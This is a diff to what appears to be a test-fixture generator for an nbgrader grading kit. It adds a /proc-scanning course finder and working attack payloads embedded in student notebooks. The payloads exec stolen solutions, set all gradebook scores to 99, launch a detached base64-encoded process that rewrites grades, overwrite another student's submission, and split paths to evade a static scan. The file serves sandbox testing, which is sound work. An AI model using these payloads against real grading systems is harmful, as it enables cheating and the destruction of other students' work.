@@ -9,6 +9,11 @@ to cheat. Generating them (instead of storing files) keeps them in step with the
 
 writes OUT/<student>/<assignment>/<notebook>.ipynb, the layout of nbgrader's submitted/ folder.
 ``EXPECT`` says what must happen to each case; tests/grading/test_faulty.py checks it.
+
+The attacks (``AIMED``) look for the real course the way an attacker would (see ``FIND_COURSE``) and
+aim at the course that holds ``source_dir``: grade them only with the kit's sandbox, never with
+``--no-sandbox`` in a course whose gradebook you want to keep. To see that the tests of these attacks
+can fail, tests/grading/course_worker.py grades without the sandbox when SMMKIT_FAULTY_NO_SANDBOX=1.
 """
 from __future__ import annotations
 
@@ -112,18 +117,62 @@ populairste_kanaal = gemiddeld_percentage = aandeel_youtube = aantal_boven_30 = 
 CHEAT_HOOK = """
 get_ipython().input_transformers_cleanup.append(lambda regels: ["pass\\n"])
 """
+# --- how a real attacker finds the teacher's course -------------------------------------------------
+# The kernel runs in a throwaway folder under /tmp, so a relative path ("../../..") never reaches the
+# course. An attacker looks where the course really is: the absolute path of the teacher's course
+# (baked in when the library is built, as a student who saw it in a screenshot or last year's
+# feedback would type it), the working folder of every process it can see in /proc (the grader runs
+# in the course folder), $PWD/$OLDPWD, and from each of those upwards to the folder that holds
+# nbgrader_config.py. Safety net for this test suite: a course is only attacked inside the folder
+# the course was built in (AREA), so that with the sandbox broken the attacks damage the temporary
+# course of the test and never a developer's checkout that /proc also shows.
+# Every attack prints "aanval: cursus gevonden: <folder>" or "aanval: geen cursus gevonden"
+# (test_faulty.py reads it: the attack ran, and inside the sandbox it found nothing).
+FIND_COURSE = """
+import os, pathlib
+def _cursussen():
+    _plekken = [pathlib.Path(COURSE), pathlib.Path.cwd()]
+    _plekken += [pathlib.Path(os.getenv(_n)) for _n in ("PWD", "OLDPWD") if os.getenv(_n)]
+    for _pid in os.listdir("/proc"):
+        if _pid.isdigit():
+            try:
+                _plekken.append(pathlib.Path(os.readlink("/proc/" + _pid + "/cwd")))
+            except OSError:
+                pass
+    _gevonden = []
+    for _plek in _plekken:
+        for _map in [_plek, *_plek.parents]:
+            if (_map / ("nb" + "grader_config.py")).is_file() and _map not in _gevonden:
+                if _map == pathlib.Path(AREA) or pathlib.Path(AREA) in _map.parents:
+                    _gevonden.append(_map)
+    print("aanval: " + ("cursus gevonden: " + ", ".join(map(str, _gevonden)) if _gevonden else "geen cursus gevonden"))
+    return _gevonden
+"""
+FOUND, NOT_FOUND = "aanval: cursus gevonden", "aanval: geen cursus gevonden"
+PLANTED = "geplant.txt"  # the file vals_overschrijven writes into the course: test_faulty.py looks for it everywhere
+
+
+def _aimed(code: str, course: Path) -> str:
+    """An attack with the course finder in front of it, aimed at ``course`` (built in its parent folder)."""
+    course = Path(course).resolve()
+    finder = FIND_COURSE.replace("COURSE", repr(str(course))).replace("AREA", repr(str(course.parent)))
+    return finder.strip() + "\n" + code.strip() + "\n"
+
+
 CHEAT_READ_SOLUTIONS = """
-import json, pathlib
-for _map in pathlib.Path("../../..").resolve().glob("solutions/*/*.ipynb"):
-    for _cel in json.loads(_map.read_text())["cells"]:
-        if _cel["metadata"].get("nbgrader", {}).get("solution") and _cel["cell_type"] == "code":
-            exec("".join(_cel["source"]))
+import json
+for _cursus in _cursussen():
+    for _map in _cursus.glob("solutions/*/*.ipynb"):
+        for _cel in json.loads(_map.read_text())["cells"]:
+            if _cel["metadata"].get("nbgrader", {}).get("solution") and _cel["cell_type"] == "code":
+                exec("".join(_cel["source"]))
 """
 CHEAT_GRADEBOOK = """
 import sqlite3
-_db = sqlite3.connect("../../../gradebook.db")
-_db.execute("UPDATE grade SET manual_score = 99")
-_db.commit()
+for _cursus in _cursussen():
+    _db = sqlite3.connect(_cursus / "gradebook.db")
+    _db.execute("UPDATE grade SET manual_score = 99")
+    _db.commit()
 """
 # --- attacks measured in issue 9 (each scored 13/13 or harmed others before the sandbox) -------------
 # Paths are glued together from pieces so that the static scan does not see them: the sandbox must hold.
@@ -154,25 +203,40 @@ _LATER = (  # run by a detached process 3 s after the kernel ended: every grade 
     "db.commit()\n"
 )
 ATTACK_DETACHED = """
-import base64, os, sys
-_pad = os.path.abspath(os.path.join("..", "..", "..", "grade" + "book" + "." + "d" + "b"))
-_code = base64.b64encode(%r.replace("PAD", repr(_pad)).encode()).decode()
-os.system("setsid " + sys.executable + " -c 'import base64; exec(base64.b64decode(\\"" + _code + "\\"))' >/dev/null 2>&1 &")
+import base64, sys
+for _cursus in _cursussen():
+    _pad = str(_cursus / ("grade" + "book" + "." + "d" + "b"))
+    _code = base64.b64encode(%r.replace("PAD", repr(_pad)).encode()).decode()
+    os.system("setsid " + sys.executable + " -c 'import base64; exec(base64.b64decode(\\"" + _code + "\\"))' >/dev/null 2>&1 &")
 """ % _LATER
 ATTACK_OVERWRITE = """
-import os, pathlib
-_boven = pathlib.Path(os.path.join("..", "..", "..")).resolve()
-_ander = _boven / ("sub" + "mitted") / "goed" / "h01-introductie" / "h01-introductie.ipynb"
-if _ander.exists():
-    _ander.write_text(pathlib.Path("h01-introductie.ipynb").read_text())
-_bron = _boven / ("solu" + "tions") / "h01-introductie"
-if _bron.is_dir():
-    (_bron / "geplant.txt").write_text("dit bestand hoort hier niet")
-"""
+for _cursus in _cursussen():
+    _ander = _cursus / ("sub" + "mitted") / "goed" / "h01-introductie" / "h01-introductie.ipynb"
+    for _map in [_cursus, _cursus / ("solu" + "tions") / "h01-introductie", _ander.parent]:
+        if _map.is_dir():
+            (_map / PLANTED).write_text("dit bestand hoort hier niet")
+    if _ander.exists():  # the grader runs the notebook from memory: there is no copy of it beside the kernel
+        _ander.write_text("")
+""".replace("PLANTED", repr(PLANTED))
 ATTACK_PRINT_SOURCE = """
-import glob, os
-for _pad in glob.glob(os.path.join("..", "..", "..", "solu" + "tions", "*", "*.ipynb")):
-    print(open(_pad).read())
+for _cursus in _cursussen():
+    for _pad in sorted(_cursus.glob(("solu" + "tions") + "/*/*.ipynb")):
+        print(_pad.read_text())
+"""
+# the worked answers as a module beside the notebook, imported with "*": no exec, no suspicious name
+ATTACK_IMPORT_SOLUTIONS = """
+import json
+_regels = []
+for _cursus in _cursussen():
+    for _pad in sorted(_cursus.glob(("solu" + "tions") + "/*/*.ipynb")):
+        for _cel in json.loads(_pad.read_text())["cells"]:
+            _nbg = _cel["metadata"].get("nb" + "grader", {})
+            if _cel["cell_type"] == "code" and (_nbg.get("solution") or _nbg.get("grade_id", "").endswith("_start")):
+                _code = "".join(_cel["source"]).replace("\\n", "\\n    ")
+                _regels.append("try:\\n    " + _code + "\\nexcept Exception:\\n    pass\\n")
+if _regels:
+    pathlib.Path("_hulp.py").write_text("".join(_regels))
+    from _hulp import *
 """
 ATTACK_CATCH_HIDDEN = """
 import IPython
@@ -220,6 +284,7 @@ EXPECT = {
     "vals_nakomer": ("graded", "a detached process (setsid) that writes the gradebook after the run"),
     "vals_overschrijven": ("graded", "overwrites another student's submitted notebook, plants a file in solutions/"),
     "vals_bron_printen": ("graded", "prints the notebooks of solutions/ into its output"),
+    "vals_oplossing_importeren": ("graded", "writes the worked answers of solutions/ into a module and imports it"),
     "vals_verborgen_vangen": ("graded", "an IPython hook that prints the source of every later cell"),
     "*": ("rejected", "a student folder named '*' (a glob pattern for nbgrader)"),
 }
@@ -228,10 +293,19 @@ SCAN_CHEATS = [name for name in CHEATS if EXPECT[name][0] == "rejected"]  # caug
 # attacks that only the sandbox, the metadata restore or the feedback filter stop
 ATTACKS = [name for name in EXPECT if EXPECT[name][0] == "graded" and (name.startswith("vals_") or name == "vriend_startup")]
 LEAKERS = ["vals_bron_printen", "vals_verborgen_vangen"]  # their feedback must show no hidden test
+# attacks that look for the teacher's course (FIND_COURSE) and print what they found
+AIMED = ["vals_oplossingen_lezen", "vals_gradebook", "vals_nakomer", "vals_overschrijven", "vals_bron_printen",
+         "vals_oplossing_importeren"]
+# scan cheats that course_worker.py also runs with --allow-suspicious: what they do must fail in the sandbox too
+RUN_ANYWAY = ["vals_check_vervangen", "vals_oplossingen_lezen", "vals_gradebook"]
 
 
-def build(source_dir: Path, release_dir: Path) -> dict[str, tuple[str, bytes]]:
-    """student -> (file name, file bytes) for every case in EXPECT."""
+def build(source_dir: Path, release_dir: Path, course: Path | None = None) -> dict[str, tuple[str, bytes]]:
+    """student -> (file name, file bytes) for every case in EXPECT.
+
+    ``course``: the course the attacks aim at (default: the course that holds ``source_dir``, i.e.
+    ``<course>/solutions/<assignment>``)."""
+    course = Path(course or Path(source_dir).resolve().parents[1]).resolve()
     notebook = sorted(p.name for p in source_dir.glob("*.ipynb"))[0]
     source = json.loads((source_dir / notebook).read_text(encoding="utf-8"))
     release = json.loads((release_dir / notebook).read_text(encoding="utf-8"))
@@ -281,8 +355,9 @@ def build(source_dir: Path, release_dir: Path) -> dict[str, tuple[str, bytes]]:
 
     for name, code in [("vals_check_vervangen", CHEAT_REPLACE_CHECK), ("vals_check_eigen", CHEAT_OWN_CHECK),
                        ("vals_omgeving", CHEAT_ENVIRON), ("vals_builtins", CHEAT_BUILTINS),
-                       ("vals_ipython_hook", CHEAT_HOOK), ("vals_oplossingen_lezen", CHEAT_READ_SOLUTIONS),
-                       ("vals_gradebook", CHEAT_GRADEBOOK)]:
+                       ("vals_ipython_hook", CHEAT_HOOK),
+                       ("vals_oplossingen_lezen", _aimed(CHEAT_READ_SOLUTIONS, course)),
+                       ("vals_gradebook", _aimed(CHEAT_GRADEBOOK, course))]:
         add(name, _prepend(release, 0, code))
 
     def tagged(tag):
@@ -305,9 +380,10 @@ def build(source_dir: Path, release_dir: Path) -> dict[str, tuple[str, bytes]]:
     add("vals_eigen_smmkit", release)
     add("vals_startup", _prepend(release, 0, ATTACK_STARTUP))
     add("vriend_startup", release)
-    add("vals_nakomer", _prepend(release, 0, ATTACK_DETACHED))
-    add("vals_overschrijven", _prepend(release, 0, ATTACK_OVERWRITE))
-    add("vals_bron_printen", _prepend(release, 0, ATTACK_PRINT_SOURCE))
+    add("vals_nakomer", _prepend(release, 0, _aimed(ATTACK_DETACHED, course)))
+    add("vals_overschrijven", _prepend(release, 0, _aimed(ATTACK_OVERWRITE, course)))
+    add("vals_bron_printen", _prepend(release, 0, _aimed(ATTACK_PRINT_SOURCE, course)))
+    add("vals_oplossing_importeren", _prepend(release, 0, _aimed(ATTACK_IMPORT_SOLUTIONS, course)))
     add("vals_verborgen_vangen", _prepend(release, 0, ATTACK_CATCH_HIDDEN))
     add("*", good)
     assert set(cases) == set(EXPECT), set(cases) ^ set(EXPECT)
